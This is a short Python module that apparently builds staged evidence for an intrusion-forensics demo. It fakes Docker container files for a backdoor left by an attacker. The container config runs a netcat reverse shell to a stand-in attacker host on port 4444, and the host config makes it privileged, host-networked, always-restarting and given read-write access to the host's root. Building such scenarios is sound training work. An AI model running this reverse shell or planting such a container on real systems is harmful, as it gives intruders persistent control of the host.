"""The container that the intruder left behind."""

import json

from guestshell.demo.story.logins import ATTACKER
from guestshell.demo.story.moments import night
from guestshell.demo.story.part import Part

_ID = "3f4c2a9be0d1"
_HOME = f"/var/lib/docker/containers/{_ID}"

PART = Part(
    texts={
        f"{_HOME}/config.v2.json": json.dumps(
            {
                "ID": _ID,
                "Name": "/cache",
                "Created": "2026-03-14T02:26:00Z",
                "Path": "/bin/sh",
                "Args": ["-c", f"nc {ATTACKER} 4444 -e sh"],
                "Config": {"Image": "alpine:3.19", "User": ""},
                "State": {
                    "Running": True,
                    "StartedAt": "2026-03-14T02:26:01Z",
                    "FinishedAt": "0001-01-01T00:00:00Z",
                },
                "MountPoints": {"/host": {"Source": "/", "Destination": "/host", "RW": True}},
            }
        ),
        f"{_HOME}/hostconfig.json": json.dumps(
            {
                "NetworkMode": "host",
                "Privileged": True,
                "CapAdd": ["CAP_SYS_ADMIN"],
                "RestartPolicy": {"Name": "always"},
            }
        ),
    },
    times={
        f"{_HOME}/config.v2.json": night("02:26:01"),
        f"{_HOME}/hostconfig.json": night("02:26:00"),
    },
)
